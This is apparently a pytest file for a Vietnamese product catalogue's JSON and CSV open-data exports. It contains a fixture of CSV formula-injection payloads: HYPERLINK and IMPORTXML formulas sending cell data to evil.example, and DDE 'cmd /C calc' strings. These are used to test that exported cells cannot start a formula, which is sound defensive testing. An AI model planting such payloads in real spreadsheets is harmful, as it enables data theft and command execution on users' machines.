"""Open data: the CSV round-trips through Python's csv module with the same data as the JSON (made for
spreadsheets: no cell starts a formula, codes keep their zeros); the sales points match catalogue.yaml."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
import yaml

from catalogue.dashboard import dashboard
from catalogue.exports import csv_columns, products_csv, products_json, re_evaluation_csv, translated_columns
from catalogue.pages.i18n import format_phone
from catalogue.spreadsheet import Code, cell
from catalogue.trade_data import certification_cell
from catalogue.validate import validate

from .conftest import REPO


def test_json_has_every_product_with_its_status(demo_site: Path) -> None:
    document = json.loads((demo_site / "data" / "products.json").read_text(encoding="utf-8"))
    pages = {p.parent.name for p in (demo_site / "p").glob("*/index.html")}
    assert {r["id"] for r in document["products"]} == pages
    assert document["demo"] is True and document["status_on"] == "2026-11-28"
    revoked = [r for r in document["products"] if r["status"] == "revoked"]
    assert [r["id"] for r in revoked] == ["lap-suon-lon-den-muong-te"] and revoked[0]["revoked_on"] == "2026-05-10"
    assert all(r["url"] == f"{document['site_url']}p/{r['id']}/" for r in document["products"])


def test_json_holds_one_product_a_line_and_reads_without_products(demo_site: Path) -> None:
    text = (demo_site / "data" / "products.json").read_text(encoding="utf-8")
    document = json.loads(text)
    lines = [line.removesuffix(",") for line in text.splitlines() if line.startswith("  {")]
    assert [json.loads(line) for line in lines] == document["products"]  # a change to one product is a change to one line
    catalogue, report = validate(REPO / "products", REPO / "producers", REPO / "catalogue.yaml", date(2026, 11, 28))
    assert report.ok
    catalogue.products.clear()
    empty = json.loads(products_json(catalogue, date(2026, 11, 28)))
    assert empty["products"] == [] and empty["province"] == document["province"]


def spreadsheet_value(key: str, value: object) -> str:
    """What products.csv holds for a products.json value: phones grouped, GTINs kept as text, lists
    (trade facts) in one cell joined with '; '."""
    if value is None or value == []:
        return ""
    if key in ("producer_phone", "wholesale_phone", "wholesale_zalo"):
        return format_phone(str(value))
    if key == "certifications":
        return "; ".join(certification_cell(c) for c in value)  # type: ignore[attr-defined]
    if key == "export_markets":
        return "; ".join(value)  # type: ignore[arg-type]
    if key == "gtin":
        return f"'{value}"
    return str(value)


def test_csv_round_trips_with_the_same_data_as_the_json(demo_site: Path) -> None:
    raw = (demo_site / "data" / "products.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    records = json.loads((demo_site / "data" / "products.json").read_text(encoding="utf-8"))["products"]
    languages = yaml.safe_load((REPO / "catalogue.yaml").read_text(encoding="utf-8"))["languages"]
    assert list(rows[0]) == csv_columns(languages)
    assert rows == [{k: spreadsheet_value(k, v) for k, v in r.items()} for r in records]
    assert any(row["name"] == "Mật ong Pa Ủ" for row in rows)
    assert all(row["producer_phone"].startswith("0") and " " in row["producer_phone"] for row in rows)
    assert {row["gtin"][:2] for row in rows if row["gtin"]} == {"'0"}  # GTIN-14 keeps its leading zero in Excel


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "certificate.number": "-2+3+cmd|' /C calc'!A0",
    "certificate.issuer": "@SUM(A1:A9)",
    "certificate.decision": "=1+1",
    "certificate.revoked.reason": "+THIS()",
    "price.unit": "-1",
    "translations.en.name": '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "producer.name": "=cmd|' /C calc'!A0",
}


def hostile_catalogue(root: Path) -> None:
    """The base catalogue with a formula in every text that goes into a CSV, and the product revoked
    (so that it is in the re-evaluation list too)."""
    path = root / "products" / "base-product.yaml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["certificate"]["revoked"] = {"date": "2026-05-10", "reason": "x"}
    for dotted, value in HOSTILE.items():
        if dotted.startswith("producer."):
            continue
        *parents, last = dotted.split(".")
        target = data
        for part in parents:
            target = target[part]
        target[last] = value
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    producer = root / "producers" / "base-producer.yaml"
    text = producer.read_text(encoding="utf-8").replace("name: Hợp tác xã Chè Tả Lèng", f"name: {json.dumps(HOSTILE['producer.name'])}")
    producer.write_text(text, encoding="utf-8")


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_no_cell_of_either_csv_can_start_a_formula(base_catalogue: Path) -> None:
    hostile_catalogue(base_catalogue)
    today = date(2026, 11, 28)
    catalogue, report = validate(Path("products"), Path("producers"), today=today)
    assert report.ok, report.to_text()
    files = {"products.csv": products_csv(catalogue, today), "re-evaluation.csv": re_evaluation_csv(catalogue, dashboard(catalogue, today))}
    for name, data in files.items():
        rows = csv_cells(data)
        assert len(rows) == 2, name
        assert all(not value.startswith(FORMULA_STARTS) for row in rows for value in row), name
    products = dict(zip(*csv_cells(files["products.csv"]), strict=True))
    assert products["name"] == "'" + HOSTILE["name"] and products["producer_name"] == "'" + HOSTILE["producer.name"]
    assert products["certificate_number"] == "'" + HOSTILE["certificate.number"] and products["price_unit"] == "'-1"
    assert (products["producer_phone"], products["gtin"], products["stars"]) == ("0912 345 678", "'08936000120016", "4")
    due = dict(zip(*csv_cells(files["re-evaluation.csv"]), strict=True))
    assert due["revoked_reason"] == "'+THIS()" and due["product_name_en"] == "'" + HOSTILE["translations.en.name"]
    assert (due["situation"], due["producer_phone"]) == ("revoked", "0912 345 678")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\0", "'\0"),
        ("Mật ong = ngọt", "Mật ong = ngọt"),
        (-5, "-5"),  # a number is not a formula
        (4, "4"),
        (None, ""),
        ("0912 345 678", "0912 345 678"),
        ("0912345678", "'0912345678"),  # digits with a leading zero stay text
        ("8936000120016", "'8936000120016"),  # 13 digits: Excel would show 8.936E+12
        ("6200000999", "6200000999"),
        (Code("6200000999"), "'6200000999"),  # a tax code is a code, whatever its digits
        ("2026-11-28", "2026-11-28"),
    ],
)
def test_cell(value: object, written: str) -> None:
    assert cell(value) == written


def test_schema_describes_every_field(demo_site: Path) -> None:
    schema = json.loads((demo_site / "data" / "products.schema.json").read_text(encoding="utf-8"))
    item = schema["properties"]["products"]["items"]
    records = json.loads((demo_site / "data" / "products.json").read_text(encoding="utf-8"))["products"]
    for record in records:
        assert set(record) == set(item["properties"]) and set(item["required"]) <= {k for k, v in record.items() if v is not None}
        for key, value in record.items():
            rule = item["properties"][key]
            if "enum" in rule:
                assert value in rule["enum"], key
            else:
                kind = {str: "string", int: "integer", type(None): "null", list: "array"}[type(value)]
                assert kind in rule["type"], key


def test_sales_points_json_matches_catalogue_yaml(demo_site: Path) -> None:
    document = json.loads((demo_site / "data" / "sales-points.json").read_text(encoding="utf-8"))
    points = yaml.safe_load((REPO / "catalogue.yaml").read_text(encoding="utf-8"))["sales_points"]
    assert document["status_on"] == "2026-11-28" and document["demo"] is True
    assert [p["id"] for p in document["sales_points"]] == [p["id"] for p in points]
    products = {r["id"] for r in json.loads((demo_site / "data" / "products.json").read_text(encoding="utf-8"))["products"]}
    for record, point in zip(document["sales_points"], points, strict=True):
        assert record["products"] == point["products"] and set(record["products"]) <= products
        assert (record["kind"], record["address"], record["commune"]) == (point["kind"], point["address"], point.get("commune"))
        assert record["province"] == point.get("province", "Lai Châu")
        assert record["to"] == (point["to"].isoformat() if "to" in point else None)
        assert record["ended"] is ("to" in point and point["to"] < date(2026, 11, 28))
        assert record["url"] == f"{document['site_url']}sales-points/#{point['id']}"
        english = point.get("translations", {}).get("en", {})
        assert (record["name_en"], record["hours_en"]) == (english.get("name"), english.get("hours"))


def test_each_language_after_the_first_adds_its_name_and_url_columns() -> None:
    assert translated_columns(["id", "name", "group", "url", "gtin"], ["vi", "en", "zh"], ("name", "url")) == [
        "id", "name", "name_en", "name_zh", "group", "url", "url_en", "url_zh", "gtin"
    ]  # fmt: skip
    assert "name_en" not in csv_columns(["vi"]) and csv_columns(["vi", "zh"]).count("url_zh") == 1


def test_translated_names_and_urls_in_the_open_data(demo_site: Path) -> None:
    document = json.loads((demo_site / "data" / "products.json").read_text(encoding="utf-8"))
    honey = next(r for r in document["products"] if r["id"] == "mat-ong-pa-u")
    assert honey["name_en"] == "Pa Ủ honey" and honey["url_en"] == f"{document['site_url']}en/p/mat-ong-pa-u/"
